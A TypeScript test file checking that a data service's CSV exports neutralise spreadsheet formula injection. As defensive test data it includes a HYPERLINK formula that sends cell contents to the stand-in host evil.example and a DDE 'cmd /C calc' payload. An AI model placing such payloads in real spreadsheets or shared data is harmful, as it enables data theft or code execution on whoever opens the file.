// Spreadsheet formula injection on both engines: in every kind of CSV file the service writes (the
// staff's export of a search in both flavours, `siret` and `offre` dataset files), a text cell
// beginning with =, +, -, @, a tab or a carriage return gets a leading quote; numbers, negative ones
// included, and empty cells are written as they are.
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { parse } from 'csv-parse/sync'
import iconv from 'iconv-lite'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { closePool, query } from '../db/pool'
import { LocalFileStore } from '../files/local-store'
import { offerFieldsSchema, type OfferFieldsInput } from '../offers/fields'
import { changeStatus, createOffer } from '../offers/offer-store'
import { engineSkipped, testEngine } from '../testing/engine'
import { insertEstablishments, testSiren } from '../testing/dataset-fixtures'
import { FORMULA_TRIGGERS, neutralisedSelect } from './csv-cells'
import { createDataset, getDatasetOrThrow } from './datasets'
import { DatasetJobRunner } from './job-runner'
import { exportSearch } from './search-export'

afterAll(() => closePool())

/** A payload of the kind a partner could post: it opens a shell or a link when evaluated. */
const payload = (trigger: string) => `${trigger}HYPERLINK("http://evil.example/?"&A1;"clic")`
const risky = FORMULA_TRIGGERS.map(payload)

let root: string
let store: LocalFileStore
beforeAll(() => {
  root = fs.mkdtempSync(path.join(os.tmpdir(), 'tda-csv-cells-'))
  store = new LocalFileStore({
    root,
    baseUrl: 'http://localhost:3000',
    secret: 'csv-cells-test-secret-0123456789',
  })
})
afterAll(() => fs.rmSync(root, { recursive: true, force: true }))

const rowsOf = (text: string, delimiter = ',') => {
  const [header, ...rows] = parse(text, { delimiter }) as string[][]
  return rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i]!])))
}

describe.skipIf(engineSkipped)(`formula injection in CSV files on ${testEngine}`, () => {
  it('neutralises text cells beginning with each trigger, and leaves numbers and NULL', async () => {
    const select = `SELECT t::text AS t, t::varchar AS v, -12 AS i, -3.25::numeric AS n, -1.5e-7::float8 AS f,
                           NULL::text AS empty, true AS b, 'plain -1' AS plain
                      FROM unnest($1::text[]) WITH ORDINALITY AS u(t, k) ORDER BY k`
    const { fields } = await query(`SELECT * FROM (${select}) c LIMIT 0`, [[]])
    const { rows } = await query<Record<string, unknown>>(neutralisedSelect(select, fields), [
      [...risky, 'Bureaux', '', '1=1', "'=déjà"],
    ])
    expect(rows.map((r) => r.t)).toEqual([...risky.map((r) => `'${r}`), 'Bureaux', '', '1=1', "'=déjà"])
    expect(rows.map((r) => r.v)).toEqual(rows.map((r) => r.t))
    for (const row of rows) {
      expect(row).toMatchObject({ i: -12, n: '-3.25', f: -1.5e-7, empty: null, b: true, plain: 'plain -1' })
    }
  })

  it('neutralises the staff’s export of a search, in UTF-8 and for spreadsheets', async () => {
    const siren = testSiren(testEngine === 'postgres' ? 311 : 312)
    const records = await insertEstablishments(siren, risky.length)
    for (const [i, record] of records.entries()) {
      await query('UPDATE etablissement SET entreprise = $2, adresse = $3 WHERE siret = $1', [
        record.siret,
        risky[i],
        `${FORMULA_TRIGGERS[i]}1 RUE DE LA GARE`,
      ])
    }
    const utf8 = await exportSearch('siret', { siren }, 'utf-8')
    const latin9 = await exportSearch('siret', { siren }, 'iso-8859-15')
    for (const rows of [
      rowsOf(utf8.bytes.toString('utf8')),
      rowsOf(iconv.decode(latin9.bytes, 'iso-8859-15'), ';'),
    ]) {
      expect(rows.map((r) => r.entreprise)).toEqual(risky.map((r) => `'${r}`))
      expect(rows.map((r) => r.adresse)).toEqual(FORMULA_TRIGGERS.map((t) => `'${t}1 RUE DE LA GARE`))
      expect(rows.every((r) => /^\d+$/.test(r.effectif_details_tranche_median!))).toBe(true)
    }

    // The same records as a `siret` dataset's file.
    const dataset = await createDataset({
      title: 'Injection',
      model: 'siret',
      search: { siren },
      encoding: 'UTF-8',
    })
    expect(await new DatasetJobRunner({ store, engine: testEngine }).runUntilIdle(dataset.id)).toEqual([
      'published',
    ])
    const file = fs.readFileSync(
      path.join(root, (await getDatasetOrThrow(dataset.id)).current!.fileName!),
      'utf8',
    )
    expect(rowsOf(file).map((r) => r.entreprise)).toEqual(risky.map((r) => `'${r}`))
  })

  it('neutralises the text a partner posted in an offre dataset’s file, not its coordinates', async () => {
    const app = `tda_test_csv_cells_${testEngine}`
    const word = `zzinjection${testEngine}`
    await query('DELETE FROM offre WHERE client_id = $1', [app])
    const system = { kind: 'system', name: 'Test' } as const
    const posted: Array<{ descriptif_bien?: string | undefined; acces?: string | undefined }> = []
    for (const [i, trigger] of FORMULA_TRIGGERS.entries()) {
      const input: Partial<OfferFieldsInput> = {
        // A label starting with a tab or a carriage return would be trimmed: they go in the texts.
        label: `${trigger === '\t' || trigger === '\r' ? '=' : trigger}SUM(1+1) ${word} ${i}`,
        descriptif_bien: payload(trigger),
        acces: `${trigger}cmd|' /C calc'!A0`,
        latitude: 48.1035,
        longitude: -1.6722,
      }
      const fields = offerFieldsSchema.parse({
        local_type: 'bureaux',
        transaction_types: ['louer'],
        surface: 120,
        code_commune: '35238',
        ...input,
      })
      // Offer texts are trimmed when validated: a leading tab or carriage return never reaches a file.
      posted.push({ descriptif_bien: fields.descriptif_bien, acces: fields.acces })
      const { reference } = await createOffer(fields, { kind: 'application', clientId: app })
      await changeStatus(reference, 'publish', system)
    }
    const dataset = await createDataset({
      title: 'Offres',
      model: 'offre',
      search: { q: word },
      encoding: 'UTF-8',
    })
    expect(await new DatasetJobRunner({ store, engine: testEngine }).runUntilIdle(dataset.id)).toEqual([
      'published',
    ])
    const file = fs.readFileSync(
      path.join(root, (await getDatasetOrThrow(dataset.id)).current!.fileName!),
      'utf8',
    )
    const rows = rowsOf(file).sort((a, b) => a.label!.localeCompare(b.label!, 'en'))
    expect(rows).toHaveLength(FORMULA_TRIGGERS.length)
    const byIndex = (r: Record<string, string>) => Number(r.label!.split(' ').at(-1))
    for (const row of rows) {
      const i = byIndex(row)
      expect(row.label!.startsWith("'")).toBe(true)
      const expected = (text: string) =>
        FORMULA_TRIGGERS.some((t) => text.startsWith(t)) ? `'${text}` : text
      expect(row.descriptif_bien).toBe(expected(posted[i]!.descriptif_bien!))
      expect(row.acces).toBe(expected(posted[i]!.acces!))
      if (i < 4) expect(row.acces).toBe(`'${FORMULA_TRIGGERS[i]}cmd|' /C calc'!A0`)
      expect(row).toMatchObject({ longitude: '-1.6722', latitude: '48.1035', surface: '120' })
    }
  })
})
